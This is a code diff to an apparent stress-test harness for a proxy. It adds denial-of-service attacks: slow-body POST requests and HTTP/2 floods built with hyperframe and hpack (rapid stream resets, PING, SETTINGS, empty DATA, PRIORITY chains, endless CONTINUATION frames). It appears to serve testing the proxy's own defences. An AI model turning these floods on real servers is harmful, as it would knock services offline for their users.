@@ -25,7 +25,20 @@ import threading
 import time
 from collections.abc import Awaitable, Callable, Iterator
 from dataclasses import dataclass
+from functools import partial
 from pathlib import Path
+
+from hpack import Encoder
+from hyperframe.frame import (
+    ContinuationFrame,
+    DataFrame,
+    Frame,
+    HeadersFrame,
+    PingFrame,
+    PriorityFrame,
+    RstStreamFrame,
+    SettingsFrame,
+)
 
 ROOT = Path(__file__).parents[1]
 sys.path.insert(0, str(ROOT / "addons"))
@@ -123,6 +136,11 @@ async def attack(name: str, ports: Ports) -> None:
     counts = {"octets": 100, "connect-head": 100, "keep-alive": min(10_000, most), "heads": 1000, "hellos": 1000}
     counts |= {"subnet": 4 * LIMITS["connections"]}
 
+    said["slow-bodies"] = (
+        b"POST http://www.clips.example.org/ HTTP/1.1\r\nHost: www.clips.example.org\r\nContent-Length: 60000\r\n\r\n"
+    )
+    counts["slow-bodies"] = 500
+
     async def say(number: int) -> Streams:
         source = f"{SUBNET}{number + 1:x}" if name == "subnet" else ATTACKER.format(1)
         reader, writer = await dial(ports, source)
@@ -163,11 +181,29 @@ async def attack(name: str, ports: Ports) -> None:
         writer.close()
 
     if name in said:
-        await keep(counts[name], say, b"x" if name in ("octets", "connect-head") else b"")
+        await keep(counts[name], say, b"x" if name in ("octets", "connect-head", "slow-bodies") else b"")
     else:
-        repeated = {"unresolved": (unresolved, 320), "banned-names": (banned, 32), "pages": (page, 64)}
-        once, count = (repeated | {"probes": (probe, 64)})[name]
+        repeated: dict[str, tuple[Callable[[int], Awaitable[None]], int]] = {
+            "unresolved": (unresolved, 320),
+            "banned-names": (banned, 32),
+            "pages": (page, 64),
+            "probes": (probe, 64),
+            **{each: (partial(flood, each, ports), 6) for each in FLOODS},
+        }
+        once, count = repeated[name]
         await again(count, once)
+
+
+async def flood(name: str, ports: Ports, _: int) -> None:
+    """One connection of HTTP/2 that sends what costs work and brings nothing."""
+    reader, writer = await dial(ports, ATTACKER.format(1))
+    writer.write(connect("www.clips.example.org", 80))
+    await reader.readuntil(b"\r\n\r\n")
+    for piece in frames(name):
+        writer.write(piece)
+        await writer.drain()
+    await reader.read(1 << 20)
+    writer.close()
 
 
 ATTACKS = {
@@ -184,7 +220,49 @@ ATTACKS = {
     "heads": ("page", "1,000 heads of 250 kB without an end"),
     "pages": ("page", "64 page handshakes at a time"),
     "banned-names": ("page", "32 requests at a time, each for another banned name"),
+    "slow-bodies": ("page", "500 requests with a body that comes octet by octet"),
+    "resets": ("page", "6 connections of HTTP/2 at a time, 20,000 streams each that are reset at once"),
+    "resets-apart": ("page", "the same, 100 streams begun in one segment and reset in the next"),
+    "pings": ("page", "6 connections of HTTP/2 at a time, 20,000 PING frames each"),
+    "settings": ("page", "the same with SETTINGS"),
+    "empty-data": ("page", "the same with DATA without an octet"),
+    "trees": ("page", "the same with PRIORITY, each stream depending on the one before"),
+    "continuations": ("page", "the same with CONTINUATION, of a head that never ends"),
 }
+FLOODS = ("resets", "resets-apart", "pings", "settings", "empty-data", "trees", "continuations")
+
+
+def frames(name: str) -> Iterator[bytes]:
+    """What a connection of HTTP/2 sends, in pieces."""
+    encoder, size = Encoder(), 20_000
+
+    def head(stream: int, *flags: str) -> bytes:
+        fields = [(":method", "GET"), (":authority", "www.clips.example.org"), (":scheme", "http"), (":path", "/")]
+        frame = HeadersFrame(stream, encoder.encode(fields))
+        frame.flags |= set(flags)
+        return frame.serialize()
+
+    def reset(stream: int) -> bytes:
+        return RstStreamFrame(stream, error_code=8).serialize()
+
+    yield b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0).serialize()
+    if name in ("resets", "resets-apart"):
+        at_once = 1 if name == "resets" else 100
+        for first in range(1, 2 * size, 2 * at_once):
+            streams = range(first, first + 2 * at_once, 2)
+            yield b"".join(head(each, "END_HEADERS", "END_STREAM") for each in streams)
+            yield b"".join(map(reset, streams))
+        return
+    yield head(1) if name == "continuations" else head(1, "END_HEADERS")
+    frame: Callable[[int], Frame] = {
+        "pings": lambda _: PingFrame(0, bytes(8)),
+        "settings": lambda _: SettingsFrame(0),
+        "empty-data": lambda _: DataFrame(1, b""),
+        "trees": lambda number: PriorityFrame(2 * number + 3, depends_on=2 * number + 1),
+        "continuations": lambda _: ContinuationFrame(1, b""),
+    }[name]
+    for number in range(0, size, 1000):
+        yield b"".join(frame(each).serialize() for each in range(number, number + 1000))
 
 
 def unverified() -> ssl.SSLContext:
